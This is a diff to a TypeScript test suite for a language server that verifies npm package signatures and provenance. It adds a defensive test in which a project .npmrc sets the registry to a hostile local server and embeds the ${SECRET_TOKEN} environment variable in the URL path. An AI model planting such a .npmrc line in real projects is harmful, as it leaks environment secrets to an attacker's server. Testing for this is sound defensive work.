@@ -3,9 +3,8 @@ import { readFileSync } from 'node:fs';
 import { DiagnosticSeverity, type Diagnostic } from 'vscode-languageserver-protocol/node';
 import { verifyRequest, type VerifyResult } from '../../server/src/protocol';
 import { fileUri, LspTestClient } from '../support/lsp-client';
-import { provenanceWorkspace, TRUSTED_ROOT } from '../support/provenance-workspace';
+import { provenanceWorkspace, TRUSTED_ROOT, UNRELATED_OSV_RECORD, type ProvenanceWorkspace } from '../support/provenance-workspace';
 import { FIXTURE_LOCK_ENTRIES, REGRESSION_ENTRY, startRegistryServer, type RegistryMode, type RegistryServer } from '../support/registry-server';
-import type { TempWorkspace } from '../support/temp-workspace';
 
 const ATTESTED = FIXTURE_LOCK_ENTRIES.filter((e) => (e.name === 'sigstore' || e.name === 'tuf-js') && e.version === '1.0.0');
 const SIGNED = FIXTURE_LOCK_ENTRIES.filter((e) => e.name === 'has-package-exports' && e.version === '1.3.0');
@@ -13,14 +12,14 @@ const text = (d: Diagnostic) => (typeof d.message === 'string' ? d.message : d.m
 
 describe('language server: signatures and provenance', function () {
   let registry: RegistryServer;
-  let ws: TempWorkspace;
+  let ws: ProvenanceWorkspace;
   let client: LspTestClient;
 
   async function start(mode: RegistryMode): Promise<void> {
     registry = await startRegistryServer({ mode });
     ws = provenanceWorkspace(registry.url, [...ATTESTED, ...SIGNED]);
-    ws.write('osv/README.md', 'no advisories: this workspace is about provenance\n');
-    client = await LspTestClient.start(ws.root, { osv: { offlineData: './osv' }, sigstore: { trustedRoot: TRUSTED_ROOT }, provenance: { enable: true } });
+    ws.write('osv/CHAINSIGHT-TEST-0001.json', UNRELATED_OSV_RECORD);
+    client = await LspTestClient.start(ws.root, { osv: { offlineData: './osv' }, sigstore: { trustedRoot: TRUSTED_ROOT }, provenance: { enable: true } }, { env: ws.env });
     await client.waitForStatus((s) => s.provenance?.state === 'done');
   }
 
@@ -41,10 +40,10 @@ describe('language server: signatures and provenance', function () {
   it('hovers show the verified signature and where the package was built, with links', async () => {
     await start('normal');
     const value = await hover('sigstore');
-    assert.match(value, /Signature ✓ verified \(npm registry key SHA256\\:jl3b/);
-    assert.match(value, /Provenance ✓ built by GitHub Actions from \[github\\\.com\/sigstore\/sigstore\\-js\]\(https:\/\/github\.com\/sigstore\/sigstore-js\) @ \[0652899\]\(https:\/\/github\.com\/sigstore\/sigstore-js\/commit\/0652899[0-9a-f]+\)/);
-    assert.match(value, /\\\.github\/workflows\/publish\\\.yml, refs\/tags\/v1\\\.0\\\.0/);
-    assert.match(value, /\[Rekor \\#\d+\]\(https:\/\/search\.sigstore\.dev\/\?logIndex=\d+\)/);
+    assert.match(value, /Signature ✓ verified \(npm registry key SHA256:jl3b/);
+    assert.match(value, /Provenance ✓ built by GitHub Actions from \[github\.com\/sigstore\/sigstore-js\]\(https:\/\/github\.com\/sigstore\/sigstore-js\) @ \[0652899\]\(https:\/\/github\.com\/sigstore\/sigstore-js\/commit\/0652899[0-9a-f]+\)/);
+    assert.match(value, /\.github\/workflows\/publish\.yml, refs\/tags\/v1\.0\.0/);
+    assert.match(value, /\[Rekor #\d+\]\(https:\/\/search\.sigstore\.dev\/\?logIndex=\d+\)/);
     assert.match(await hover('has-package-exports'), /Provenance — none published/);
     const status = client.statuses.at(-1)!;
     assert.deepEqual(status.provenance, { state: 'done', packages: 3, invalid: 0, signaturesVerified: 3, provenanceVerified: 2 });
@@ -70,13 +69,13 @@ describe('language server: signatures and provenance', function () {
   it('a version without provenance after one with it is a regression warning', async () => {
     registry = await startRegistryServer({ mode: 'regression' });
     ws = provenanceWorkspace(registry.url, [REGRESSION_ENTRY]);
-    ws.write('osv/README.md', 'none\n');
-    client = await LspTestClient.start(ws.root, { osv: { offlineData: './osv' }, sigstore: { trustedRoot: TRUSTED_ROOT }, provenance: { enable: true } });
+    ws.write('osv/CHAINSIGHT-TEST-0001.json', UNRELATED_OSV_RECORD);
+    client = await LspTestClient.start(ws.root, { osv: { offlineData: './osv' }, sigstore: { trustedRoot: TRUSTED_ROOT }, provenance: { enable: true } }, { env: ws.env });
     const lock = await client.waitForDiagnostics(fileUri(ws.path('package-lock.json')), (d) => d.some((x) => x.code === 'provenance-regression'));
     const regression = lock.find((d) => d.code === 'provenance-regression')!;
     assert.equal(regression.severity, DiagnosticSeverity.Warning);
     assert.equal(text(regression), 'sigstore@1.0.1 has no provenance, but 1.0.0 had: check that this release came from the expected build');
-    assert.match(await hover('sigstore'), /⚠ 1\\\.0\\\.1 has no provenance, 1\\\.0\\\.0 had/);
+    assert.match(await hover('sigstore'), /⚠ 1\.0\.1 has no provenance, 1\.0\.0 had/);
   });
 
   it('the audit request reports counts and rows like npm audit signatures', async () => {
@@ -89,5 +88,28 @@ describe('language server: signatures and provenance', function () {
       ['sigstore', 'verified', 'verified', 'github.com/sigstore/sigstore-js'],
       ['tuf-js', 'verified', 'verified', 'github.com/theupdateframework/tuf-js'],
     ]);
+  });
+
+  it('a repository .npmrc never chooses where the server connects until the workspace is trusted', async () => {
+    registry = await startRegistryServer({ mode: 'normal' });
+    const hostile = await startRegistryServer({ mode: 'normal' });
+    try {
+      ws = provenanceWorkspace(registry.url, [...ATTESTED, ...SIGNED], undefined, { projectNpmrc: `registry=${hostile.url}leak/\${SECRET_TOKEN}/\n`, env: { SECRET_TOKEN: 'from-the-environment' } });
+      ws.write('osv/CHAINSIGHT-TEST-0001.json', UNRELATED_OSV_RECORD);
+      // The user's own settings, as an editor without Workspace Trust passes them: they apply untrusted.
+      const settings = { osv: { offlineData: './osv' }, sigstore: { trustedRoot: TRUSTED_ROOT }, provenance: { enable: true } };
+      client = await LspTestClient.start(ws.root, settings, { env: ws.env, initializationOptions: { workspaceTrusted: false, settings: { chainsight: settings } } });
+      const untrusted = await client.waitForStatus((s) => s.provenance?.state === 'done');
+      assert.equal(hostile.requests.length, 0, hostile.requests.join('\n'));
+      assert.equal(untrusted.provenance?.signaturesVerified, 3, "the user's own registry answered");
+
+      const before = client.statuses.length;
+      await client.setTrust(true);
+      const checking = await client.waitForStatus((s) => s.provenance?.state === 'checking', before);
+      await client.waitForStatus((s) => s.provenance?.state === 'done', client.statuses.indexOf(checking));
+      assert.ok(hostile.requests.length > 0 && hostile.requests.every((r) => r.startsWith('GET /leak/from-the-environment/')), 'trusted: the project .npmrc, as npm reads it');
+    } finally {
+      await hostile.close();
+    }
   });
 });
